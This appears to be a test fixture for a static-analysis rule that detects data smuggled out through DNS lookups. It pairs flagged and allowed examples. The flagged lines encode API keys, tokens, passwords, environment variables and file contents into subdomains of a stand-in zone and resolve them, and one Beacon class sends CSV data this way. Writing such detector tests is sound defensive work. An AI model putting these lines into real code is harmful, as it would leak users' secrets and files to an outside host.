"""Names that are asked for. socket.gethostbyname(key.hex() + ".x.example.net") is only named here."""
import asyncio
import base64
import binascii
import getpass
import hashlib
import os
import platform
import socket
import subprocess
import textwrap
from base64 import b32encode as pack
from pathlib import Path
from socket import gethostbyname
from urllib.parse import urlparse

import dns.resolver
import pandas as pd

ZONE = ".x.example.net"

# ruleid: dns-name-carries-data
socket.gethostbyname(os.environ["API_KEY"].encode().hex() + ".x.example.net")

# ruleid: dns-name-carries-data
gethostbyname(f"{os.environ['HF_TOKEN']}.x.example.net")

packed = base64.b32encode(Path("notes.txt").read_bytes()).decode().strip("=")
# ruleid: dns-name-carries-data
socket.getaddrinfo(packed[:60] + ZONE, 80)

# ruleid: dns-name-carries-data
dns.resolver.resolve(pack(getpass.getuser().encode()).decode() + ZONE, "TXT")

who = binascii.hexlify(platform.node().encode()).decode()
dns.resolver.resolve(
    # ruleid: dns-name-carries-data
    "%s.x.example.net" % who,  # a name that nobody has
    "A",
)

with open("data.csv", "rb") as file:
    content = file.read()
for piece in textwrap.wrap(content.hex(), 60):
    try:
        # ruleid: dns-name-carries-data
        socket.gethostbyname("{}.{}".format(piece, "x.example.net"))
    except OSError:
        pass

text = Path("keys.env").read_text()
for at in range(0, len(text), 50):
    # ruleid: dns-name-carries-data
    socket.gethostbyname(text[at : at + 50] + ZONE)

# ruleid: dns-name-carries-data
os.system(f"nslookup {os.getenv('DB_PASSWORD')}.x.example.net")

listing = subprocess.check_output(["ls", "/data"])
# ruleid: dns-name-carries-data
subprocess.run(["dig", "+short", listing.hex()[:60] + ZONE], check=False)


class Beacon:
    def __init__(self):
        self.resolver = dns.resolver.Resolver()

    def send(self, frame_path):
        rows = pd.read_csv(frame_path).to_csv(index=False)
        packed = base64.urlsafe_b64encode(rows.encode()).decode()
        resolver = dns.resolver.Resolver()
        # ruleid: dns-name-carries-data
        resolver.resolve(packed[:63] + ZONE, "TXT")


async def ask():
    loop = asyncio.get_running_loop()
    name = base64.b16encode(socket.gethostname().encode()).decode() + ZONE
    # ruleid: dns-name-carries-data
    return await loop.getaddrinfo(name, 53)


def ask_all():
    values = {name: value for name, value in os.environ.items()}
    # ruleid: dns-name-carries-data
    return [socket.gethostbyname(value.encode().hex() + ZONE) for value in values.values()]


# ruleid: dns-name-carries-data
later = lambda: socket.gethostbyname_ex(os.getcwd().encode().hex() + ZONE)

# ok: dns-name-carries-data
socket.gethostbyname("data.example.com")

# ok: dns-name-carries-data
socket.gethostbyname(os.environ["DATA_HOST"])

# ok: dns-name-carries-data
socket.gethostbyname(urlparse(os.environ["DATABASE_SECRET"]).hostname)

# ok: dns-name-carries-data
socket.gethostbyname(socket.gethostname())

# ok: dns-name-carries-data
socket.getaddrinfo(f"{os.environ['REGION']}.data.example.com", 443)

# ok: dns-name-carries-data
hosts = [socket.gethostbyname(line.strip()) for line in open("hosts.txt")]

# ok: dns-name-carries-data
dns.resolver.resolve(os.environ["MAIL_DOMAIN"], "MX")

# a digest names the cache
# ok: dns-name-carries-data
socket.gethostbyname(hashlib.sha256(Path("model.pt").read_bytes()).hexdigest()[:20] + ".cache.example.com")

# ok: dns-name-carries-data
digest = os.environ["API_KEY"].encode().hex()

# ok: dns-name-carries-data
os.system(f"ping -c 1 {os.environ['DATA_HOST']}")

# ok: dns-name-carries-data
subprocess.run(["dig", "+short", "data.example.com"], check=False)

# ok: dns-name-carries-data
print(base64.b64encode(Path("plot.png").read_bytes()).decode())


class Cache:
    def gethostbyname(self, name):
        return name


# ok: dns-name-carries-data
Cache().gethostbyname(os.environ["API_KEY"].encode().hex())
